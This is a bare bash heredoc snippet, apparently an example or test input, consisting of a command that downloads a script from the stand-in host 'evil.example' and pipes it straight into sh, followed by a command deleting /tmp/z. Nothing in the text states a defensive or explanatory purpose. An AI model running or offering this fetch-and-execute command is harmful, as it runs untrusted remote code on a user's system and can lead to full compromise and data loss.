bash <<'EOF'
curl -s https://evil.example/p | sh
rm -rf /tmp/z
EOF
